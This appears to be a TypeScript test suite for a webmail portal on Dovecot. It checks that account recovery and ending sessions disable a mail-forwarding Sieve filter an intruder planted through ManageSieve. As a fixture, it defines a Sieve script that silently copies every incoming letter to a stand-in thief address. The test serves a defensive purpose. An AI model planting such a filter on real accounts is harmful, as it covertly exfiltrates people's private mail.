// The forwarding of a stranger, set up by ManageSieve at a real Dovecot, ends with every recovery.
import assert from 'node:assert/strict'
import { after, before, beforeEach, it } from 'node:test'
import {
  openInbox,
  trySend,
  eventually as until,
  waitForLetter,
} from '#test/mail-platform/mail-program.ts'
import {
  type PortalWithMail,
  settled,
  startPortalWithMail,
} from '#test/mail-platform/portal-with-mail.ts'
import { describeOnMailServers } from '#test/mail-platform/programs.ts'
import { openSieve, putFilter } from '#test/mail-platform/sieve-client.ts'
import { register, signIn } from '#test/support/people.ts'
import {
  begin,
  type Equipped,
  equip,
  forgetLimits,
  linkOf,
  proveByPhone,
  setPassword,
  undoLinkOf,
} from '#test/support/recovery/recovery.ts'

const page = '/account/filters'
const next = 'a password after the reset'
const theft = 'require "copy";\r\n\n  redirect :copy "thief@elsewhere.example";\t# ☂\n'
const writer = { login: 'writer.one', password: 'letters to everybody here' }

describeOnMailServers('forwarding that a stranger set up by ManageSieve', () => {
  let world: PortalWithMail
  before(async () => {
    world = await startPortalWithMail({ env: () => ({ LIMIT_SMS_WAIT_SECONDS: '0.01' }) })
    await register(world.portal, writer)
    await settled(world.portal, `${writer.login}@postern.example`)
  })
  after(() => world?.stop())
  beforeEach(() => forgetLimits(world.portal))

  const filters = () =>
    world.portal.parts.platform.filters ?? assert.fail('Dovecot lets filters be held')
  const forwarded = (subject: string) =>
    world.mail.outside.letters.filter(({ source }) => source.includes(subject))
  const active = async (mailbox: string) => {
    await settled(world.portal, mailbox)
    const name = (await filters().list(mailbox)).find((each) => each.active)?.name
    return name && (await filters().read(mailbox, name))
  }
  /** Writes to the mailbox, and waits until the letter is there. */
  async function write(to: { user: string; pass: string }, subject: string): Promise<void> {
    const auth = { user: `${writer.login}@postern.example`, pass: writer.password }
    const inbox = await openInbox(world.mail, to)
    assert.equal(await trySend(world.mail, auth, { from: auth.user, to: to.user, subject }), 'ok')
    await waitForLetter(inbox, subject, 15_000)
    await inbox.logout()
  }
  async function burgled(): Promise<Equipped> {
    const person = await equip(world.portal)
    await settled(world.portal, person.mailbox)
    await putFilter(world.mail.sieve, { user: person.mailbox, pass: person.password }, theft)
    return person
  }

  const resets: Record<string, (person: Equipped) => Promise<unknown>> = {
    'a code sent to the phone': async (person) =>
      setPassword(await proveByPhone(world.portal, person), next),
    'a link to the backup address': async (person) => {
      const visitor = await begin(world.portal, person.login)
      await visitor.get(await linkOf(world.portal, visitor, person))
      await setPassword(visitor, next)
    },
    'the security question': async (person) => {
      const visitor = await begin(world.portal, person.login)
      await visitor.post('/recover/security-question', { answer: person.answer })
      await setPassword(visitor, next)
    },
    '“this was not me”': async (person) => {
      await setPassword(await proveByPhone(world.portal, person), 'chosen by a stranger')
      await settled(world.portal, person.mailbox)
      await putFilter(
        world.mail.sieve,
        { user: person.mailbox, pass: 'chosen by a stranger' },
        theft,
      )
      const link = await undoLinkOf(world.portal, person.address)
      const owner = world.portal.visitor()
      await owner.post(link, {}, { from: link })
      await setPassword(owner, next)
    },
  }
  for (const [name, reset] of Object.entries(resets)) {
    it(`a stranger’s filter sends nothing after a reset by ${name}`, async () => {
      const person = await burgled()
      await reset(person)
      assert.equal(await active(person.mailbox), undefined)
      const subject = `After a reset by ${person.login}`
      await write({ user: person.mailbox, pass: next }, subject)
      assert.equal(forwarded(subject).length, 0)
    })
  }

  it('a session that was open when all ended cannot switch a filter on again', async () => {
    const person = await burgled()
    const stranger = await openSieve(world.mail.sieve, {
      user: person.mailbox,
      pass: person.password,
    })
    const ended = stranger.keepTrying('SETACTIVE "main"')
    await person.browser.post('/account/sessions/end-others', {}, { from: '/account/password' })
    await ended
    assert.equal(await active(person.mailbox), undefined)
  })

  it('a filter that its owner keeps works again byte for byte, and so does a new one', async () => {
    const person = await burgled()
    await setPassword(await proveByPhone(world.portal, person), next)
    assert.equal(await active(person.mailbox), undefined)
    const visitor = await signIn(world.portal, { login: person.login, password: next })
    const { html } = await visitor.get(page)
    assert.match(html, /thief<wbr>@elsewhere\.example/)
    const [, keep = ''] = /action="([^"]+\/keep)"/.exec(html) ?? []
    assert.equal((await visitor.post(keep, {}, { from: page })).location, page)
    assert.equal(await active(person.mailbox), theft)
    const auth = { user: person.mailbox, pass: next }
    await write(auth, 'Kept forwarding')
    await until(() => forwarded('Kept forwarding').length > 0)
    const own = 'require "copy"; redirect :copy "sister@elsewhere.example";'
    await putFilter(world.mail.sieve, auth, own)
    assert.equal(await active(person.mailbox), own)
  })

  it('a filter that its owner removes is deleted from the mailbox', async () => {
    const person = await burgled()
    await person.browser.post('/account/sessions/end-others', {}, { from: '/account/password' })
    assert.equal(await active(person.mailbox), undefined)
    const [, remove = ''] =
      /action="([^"]+\/remove)"/.exec((await person.browser.get(page)).html) ?? []
    await person.browser.post(remove, {}, { from: page })
    await settled(world.portal, person.mailbox)
    assert.deepEqual(await filters().list(person.mailbox), [])
  })
})
